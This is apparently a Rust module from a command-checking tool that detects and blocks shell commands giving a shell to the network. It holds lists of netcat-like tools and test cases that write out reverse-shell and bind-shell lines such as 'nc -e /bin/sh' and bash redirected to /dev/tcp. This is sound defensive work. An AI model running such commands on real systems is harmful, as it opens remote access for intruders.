//! Giving a shell to the network, listening or calling out.

use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec::Vec;

use crate::getopt::Args;
use crate::finding::Finding;
use crate::hook::analysis::{Command, Redirect};
use crate::origin::is_socket;
use crate::text::{shown, Text};

const RULE: &str = "backdoor";

/// A shell, or what stands in for one: it runs what it reads.
pub fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ksh93" | "mksh" | "pdksh" | "ash" | "fish" | "tcsh" | "csh" | "rbash" | "yash"
            | "elvish" | "nu" | "xonsh" | "osh" | "cmd" | "cmd.exe" | "powershell" | "powershell.exe" | "pwsh" | "login" | "su"
    )
}

fn interprets(name: &str) -> bool {
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    is_shell(name) || matches!(base, "python" | "perl" | "ruby" | "node" | "php" | "lua" | "irb" | "tclsh" | "screen" | "tmux")
}

/// A program that connects its input and output to the network.
fn connects(c: &Command) -> bool {
    match c.name.as_str() {
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" | "cryptcat" | "pwncat" | "telnet" | "websocat" | "socat"
        | "sbd" | "dbd" | "rcat" | "gs-netcat" | "tcpconnect" | "hping3" | "nping" => !c.args().iter().any(|w| w.text == "-z"),
        "openssl" => c.args().iter().any(|w| matches!(w.text.as_str(), "s_client" | "s_server")),
        "gnutls-cli" | "stunnel" | "curl" => c.args().iter().any(|w| w.text.starts_with("telnet:")) || c.name == "gnutls-cli",
        _ => false,
    }
}

/// Programs that hand a connection to a command of their arguments.
const SERVERS: [&str; 31] = [
    "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "socat", "tcpserver", "tcpsvd", "udpsvd", "inetd",
    "xinetd", "systemd-socket-activate", "websocketd", "ttyd", "gotty", "wetty", "telnetd", "in.telnetd", "utelnetd", "sbd", "dbd",
    "rcat", "rustcat", "websocat", "faucet", "tcpclient", "ucspi-tcp", "s6-tcpserver", "ipsvd", "gs-netcat",
];

pub fn judge(t: &Text, c: &Command) -> Option<Finding> {
    let gives = |what: String| Some(Finding::block(RULE, what));
    if let Some(by) = c.via.iter().find(|v| SERVERS.contains(&v.as_str())) {
        let local = by == "socat" && !parent(t, c).map_or(true, |p| p.args().iter().any(|w| is_network_address(&w.text)));
        if (interprets(&c.name) || c.name.is_empty()) && !local {
            return gives(format!("{} would give {} to the network", by, shown(&c.name)));
        }
    }
    match c.name.as_str() {
        name if SERVERS.contains(&name) => {
            if serves(c) {
                return gives(format!("{} would give a shell to the network", name));
            }
        }
        "xterm" | "rxvt" | "urxvt" | "konsole" | "gnome-terminal" | "xfce4-terminal" | "uxterm" | "aterm" => {
            let args = Args::read(c.args(), "e", &[]);
            let display = c.args().windows(2).find(|w| matches!(w[0].text.as_str(), "-display" | "--display")).map(|w| w[1].text.as_str());
            let display = display.or_else(|| args.values(&["display"]).next());
            let display = display.or_else(|| c.assigns.iter().find(|(n, _)| n == "DISPLAY").map(|(_, w)| w.text.as_str()));
            if display.map_or(false, |d| !d.starts_with(&[':', '$', 'u'][..]) && !d.starts_with("localhost")) {
                return gives(format!("{} would open a shell on another host's display", c.name));
            }
        }
        "tmate" | "sshx" | "upterm" | "teleconsole" | "shellinaboxd" | "warp-terminal-share" => {
            let asks = c.args().iter().any(|w| matches!(w.text.as_str(), "-V" | "--version" | "-h" | "--help" | "version" | "attach" | "login" | "kill-session" | "session"));
            if !asks {
                return gives(format!("{} would share a shell over the network", c.name));
            }
        }
        _ => {}
    }
    shell_on_socket(t, c)
}

fn parent<'a>(t: &Text<'a>, c: &Command) -> Option<&'a Command> {
    c.parent.and_then(|p| t.shell.commands.get(p))
}

/// An address of socat that is no file, pipe or program.
fn is_network_address(word: &str) -> bool {
    let kind = word.split(&[':', ','][..]).next().unwrap_or("").to_ascii_uppercase();
    ["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "DCCP", "SOCKS", "PROXY", "VSOCK", "IP4", "IP6", "QUIC", "WS"].iter().any(|k| kind.starts_with(k))
}

/// A server or client whose arguments name a shell that the host's parser does not hand on.
fn serves(c: &Command) -> bool {
    let program = |text: &str| {
        let first = text.split_whitespace().next().unwrap_or("");
        let name = first.rsplit(&['/', '\\'][..]).next().unwrap_or("");
        interprets(name.split(',').next().unwrap_or(""))
    };
    let texts = || c.args().iter().map(|w| w.text.as_str());
    match c.name.as_str() {
        "socat" => {
            let runs = |w: &str| {
                let (kind, rest) = w.split_once(':').unwrap_or((w, ""));
                let kind = kind.to_ascii_uppercase();
                (matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL") && program(rest.trim_matches(&['"', '\''][..]))) || kind == "SHELL"
            };
            texts().any(is_network_address) && texts().any(runs)
        }
        "websocat" => texts().any(|w| {
            w.split_once(':').map_or(false, |(kind, rest)| kind.starts_with("sh-c") || kind.ends_with("exec") && program(rest))
                || w == "--exec"
        }),
        "ncat" | "nc" | "netcat" | "nc.traditional" | "nc.openbsd" | "cryptcat" | "sbd" | "dbd" | "rcat" | "rustcat" => {
            c.args().windows(2).any(|w| {
                let o = w[0].text.as_str();
                let opens = matches!(o, "--exec" | "--sh-exec" | "--lua-exec" | "--shell")
                    || (o.starts_with('-') && !o.starts_with("--") && o.ends_with(&['e', 'c', 's'][..]));
                opens && program(&w[1].text)
            }) || texts().any(|w| {
                w.split_once('=').map_or(false, |(o, v)| matches!(o, "--exec" | "--sh-exec") && program(v))
                    || ["-e/", "-c/"].iter().any(|p| w.starts_with(p)) && program(&w[2..])
            })
        }
        "telnetd" | "in.telnetd" | "utelnetd" => {
            c.args().windows(2).any(|w| w[0].text == "-l" && program(&w[1].text)) || texts().any(|w| w.starts_with("-l/"))
        }
        "gs-netcat" => c.has_flag('l', &[]) && (c.has_flag('i', &[]) || c.has_flag('e', &[])),
        _ => texts().any(program),
    }
}

/// A shell whose input and output are a connection: by /dev/tcp, a descriptor of it, a pipe or a fifo.
fn shell_on_socket(t: &Text, c: &Command) -> Option<Finding> {
    let gives = || Some(Finding::block(RULE, format!("{} would be connected to the network", shown(&c.name))));
    let runs = interprets(&c.name) || c.name.is_empty() || c.name == "eval" || c.name == "exec";
    if runs && !has_program(c) {
        let socket = |r: &Redirect| is_socket(&r.target.text);
        let reads = c.redirects.iter().any(|r| r.fd == 0 || r.op.starts_with('<'));
        if c.name != "exec" && c.redirects.iter().any(socket) && (reads || c.args().iter().any(|w| w.text == "-i") || c.name.is_empty()) {
            return gives();
        }
        let opened = sockets(t);
        let dup = |r: &Redirect| r.op.ends_with('&') && (opened.contains(&r.target.text) || (r.target.text.starts_with('$') && !opened.is_empty()));
        if c.name != "exec" && c.redirects.iter().any(dup) {
            return gives();
        }
    }
    // Its input or output is a program that connects.
    if interprets(&c.name) && !has_program(c) && t.feeders(c).any(connects) {
        return gives();
    }
    if connects(c) {
        let fed = t.feeders(c).find(|f| interprets(&f.name) && !has_program(f));
        if let Some(shell) = fed {
            let loops = shell.redirects.iter().any(|r| r.op == "<" || r.op == "<>")
                || t.feeders(shell).next().is_some()
                || shell.args().iter().any(|w| w.text == "-i");
            if loops {
                return Some(Finding::block(RULE, format!("{} would connect {} to the network", c.name, shell.name)));
            }
        }
    }
    // A shell that reads the file that a connection is written to.
    if interprets(&c.name) && !has_program(c) {
        let written = |path: &str| {
            t.shell.commands.iter().any(|n| {
                connects(n) && n.redirects.iter().any(|r| r.op.starts_with('>') && r.target.text == path)
                    || n.name == "tee" && t.feeders(n).any(connects) && n.args().iter().any(|w| w.text == path)
            })
        };
        if c.redirects.iter().any(|r| r.op.starts_with('<') && written(&r.target.text)) {
            return gives();
        }
        if t.feeders(c).any(|f| matches!(f.name.as_str(), "cat" | "tail") && f.args().iter().any(|w| written(&w.text))) {
            return gives();
        }
    }
    None
}

/// Whether a shell is given its program, so that its input is data.
fn has_program(c: &Command) -> bool {
    if c.name.is_empty() || c.name == "eval" {
        return false;
    }
    c.args().iter().any(|w| match w.text.as_str() {
        "-" | "--" | "-s" | "/dev/stdin" => false,
        text if text.starts_with('-') && !text.starts_with("--") => text.contains('c') || text.contains('e') || text.contains('m'),
        text => !text.starts_with(&['-', '+'][..]),
    })
}

/// Descriptors that the text connects to the network.
fn sockets(t: &Text) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for c in &t.shell.commands {
        for r in c.redirects.iter().filter(|r| is_socket(&r.target.text)) {
            out.push(r.fd.to_string());
        }
        if matches!(c.name.as_str(), "ztcp" | "zsocket") {
            out.extend(["$REPLY".into(), "REPLY".into()]);
        }
        if connects(c) && c.context.iter().any(|x| x == "background") && c.pipe == 0 && t.source.contains("coproc") {
            out.push("coproc".into());
        }
    }
    // Copies of them: exec 6>&5.
    for r in t.shell.commands.iter().flat_map(|c| &c.redirects).filter(|r| r.op.ends_with('&')) {
        if out.contains(&r.target.text) && r.fd > 2 {
            out.push(r.fd.to_string());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hook::analysis::Shell;
    use crate::places::tests::{command, word};

    fn blocks(c: &Command) -> bool {
        let shell = Shell { commands: alloc::vec![c.clone()], ..Shell::default() };
        judge(&Text { source: "", shell: &shell, programs: &[] }, c).is_some()
    }

    #[test]
    fn shells_for_the_network() {
        for (line, want) in [
            ("nc -e /bin/sh h 4444", true),
            ("nc -lvp 4444 -e /bin/sh", true),
            ("ncat -l 4444 --sh-exec bash", true),
            ("ncat -l 2007 --exec /bin/cat", false),
            ("nc -z db 5432", false),
            ("nc -c h 443", false),
            ("socat TCP-LISTEN:8080,fork EXEC:/bin/bash", true),
            ("socat TCP-LISTEN:8080,fork TCP:db:5432", false),
            ("socat - EXEC:/bin/bash", false),
            ("websocketd --port=8080 bash", true),
            ("ttyd bash", true),
            ("xterm -display 10.0.0.1:0", true),
            ("xterm -display :0", false),
            ("ssh -R 2222:localhost:22 h", false),
            ("busybox telnetd -l /bin/sh", false),
            ("telnetd -l /bin/sh -p 23", true),
            ("tmate -F", true),
        ] {
            assert_eq!(blocks(&command(line)), want, "{line}");
        }
    }

    #[test]
    fn shells_on_sockets() {
        let redirected = |line: &str, redirects: &[(&str, i64, &str)]| {
            let mut c = command(line);
            c.redirects = redirects.iter().map(|(op, fd, to)| Redirect { op: (*op).into(), fd: *fd, target: word(to) }).collect();
            c
        };
        assert!(blocks(&redirected("bash -i", &[(">&", 1, "/dev/tcp/h/80"), (">&", 0, "1")])));
        assert!(blocks(&redirected("sh", &[("<", 0, "/dev/tcp/h/80")])));
        assert!(!blocks(&redirected("bash log.sh", &[(">", 1, "/dev/tcp/h/80")])));
        assert!(!blocks(&redirected("echo", &[(">", 1, "/dev/tcp/h/80")])));
        assert!(!blocks(&redirected("exec", &[("<>", 3, "/dev/tcp/h/80")])));
    }
}
